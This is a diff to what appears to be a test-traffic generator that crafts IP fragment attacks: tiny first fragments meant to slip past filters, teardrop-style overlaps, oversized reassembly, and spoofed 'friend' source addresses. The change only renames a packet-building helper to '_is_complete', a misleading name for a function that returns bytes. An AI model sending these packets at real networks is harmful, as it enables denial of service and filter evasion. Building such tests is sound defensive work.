@@ -75,28 +75,28 @@ def _transport(aim: Aim) -> Iterator[bytes]:
             yield craft.ip(aim.attacker, aim.victim, protocol, b"\x23\x28\x23\x28"[:size].ljust(size, b"\0"))
 
 
-def _whole(aim: Aim, source: End | None = None) -> bytes:
+def _is_complete(aim: Aim, source: End | None = None) -> bytes:
     return craft.udp(source or aim.attacker, aim.victim, (9000, 9000), BIG)
 
 
 def _in_order(aim: Aim) -> Iterator[bytes]:
-    yield from craft.fragments(_whole(aim), (FULL, 2 * FULL))
+    yield from craft.fragments(_is_complete(aim), (FULL, 2 * FULL))
 
 
 def _last_first(aim: Aim) -> Iterator[bytes]:
-    yield from reversed(craft.fragments(_whole(aim), (FULL, 2 * FULL)))
+    yield from reversed(craft.fragments(_is_complete(aim), (FULL, 2 * FULL)))
 
 
 def _tiny(aim: Aim) -> Iterator[bytes]:
     """First fragments that hold no whole header, as of old against filters; UDP and TCP."""
-    for whole in (_whole(aim), craft.tcp(aim.attacker, aim.victim, (9000, 80), SYN, data=BIG)):
+    for whole in (_is_complete(aim), craft.tcp(aim.attacker, aim.victim, (9000, 80), SYN, data=BIG)):
         for first in (8, 16, 24, 64, 512):
             yield from craft.fragments(whole, (first, first + FULL, first + 2 * FULL), ident=first)
 
 
 def _teardrop(aim: Aim) -> Iterator[bytes]:
     """Overlaps: inside, before, the same again with other ports, and past 65,535 bytes."""
-    whole = _whole(aim)
+    whole = _is_complete(aim)
     other = craft.udp(aim.attacker, aim.victim, (9000, 80), BIG)
     yield craft.fragment(whole, 0, whole[34 : 34 + FULL], more=True)
     yield craft.fragment(whole, 8, whole[42 : 42 + 24], more=False)
@@ -120,9 +120,9 @@ def _only_later(aim: Aim) -> Iterator[bytes]:
 
 def _joined_to_a_friends(aim: Aim) -> Iterator[bytes]:
     """The friend's address in the first, or in the later, fragments; the attacker's in the others."""
-    friends, own = _whole(aim, aim.friend), _whole(aim)
+    friends, own = _is_complete(aim, aim.friend), _is_complete(aim)
     as_friend = replace(aim.friend, mac=aim.attacker.mac)
-    lied = _whole(aim, as_friend)
+    lied = _is_complete(aim, as_friend)
     for first, rest in ((friends, own), (own, friends), (lied, own), (own, lied), (lied, lied)):
         yield craft.fragments(first, (FULL, 2 * FULL))[0]
         yield from craft.fragments(rest, (FULL, 2 * FULL))[1:]
